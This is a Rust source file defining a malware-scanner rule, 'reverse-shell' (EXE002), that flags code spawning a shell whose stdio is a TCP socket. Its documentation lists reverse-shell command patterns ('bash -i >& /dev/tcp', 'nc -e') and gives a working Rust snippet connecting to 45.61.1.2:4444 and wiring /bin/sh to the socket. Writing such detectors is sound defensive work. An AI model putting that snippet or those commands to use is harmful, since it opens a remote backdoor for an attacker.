use crate::facts::{Cap, NetKind};
use crate::report::Severity;
use crate::rules::{Family, Hit, Input, RuleInfo, in_context};

pub static INFO: RuleInfo = RuleInfo {
    code: "EXE002",
    name: "reverse-shell",
    family: Family::Execution,
    severity: Severity::Critical,
    summary: "a shell whose input and output are a network socket",
    doc: "## What it detects\nA function that opens a TCP connection, spawns a shell, and hands the socket's file descriptor to the process's stdio (`from_raw_fd`, `Stdio::from`, `dup2`), or a command line that does the same (`bash -i >& /dev/tcp/..`, `nc -e`).\n\n## Why\nThat is a remote shell for whoever listens at the other end: the classic backdoor.\n\n## Example\n```rust\nlet s = TcpStream::connect(\"45.61.1.2:4444\")?; let fd = s.as_raw_fd();\nCommand::new(\"/bin/sh\").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn()?;\n```\n\n## Known false positives\nRemote-execution tools (ssh servers, debuggers) that wire sockets to pseudo-terminals: they use a pty crate, and are reported for review.",
};

pub struct Rule;

impl crate::rules::Rule for Rule {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn check(&self, i: &Input, out: &mut Vec<Hit>) {
        for f in &i.facts.files {
            if let Some(e) = f.find(|c| matches!(c, Cap::ShellPayload { what, .. } if what.contains("reverse shell"))) {
                out.push(Hit::new(in_context(Severity::Critical, f.context), &f.path, e.line, "a command line that opens a reverse shell"));
                continue;
            }
            for sh in f.evidence.iter().filter(|e| matches!(e.cap, Cap::Process { shell: true, .. })) {
                let same = |e: &&crate::facts::Evidence| e.func == sh.func;
                let tcp = f.evidence.iter().filter(same).find(|e| matches!(e.cap, Cap::Network { kind: NetKind::Tcp, .. }));
                let fd = f.evidence.iter().filter(same).find(|e| matches!(e.cap, Cap::SocketStdio));
                if let (Some(t), Some(_)) = (tcp, fd) {
                    out.push(Hit::new(
                        in_context(Severity::Critical, f.context),
                        &f.path,
                        sh.line,
                        format!("spawns a shell with its stdio on a TCP connection (line {})", t.line),
                    ));
                    break;
                }
            }
        }
    }
}
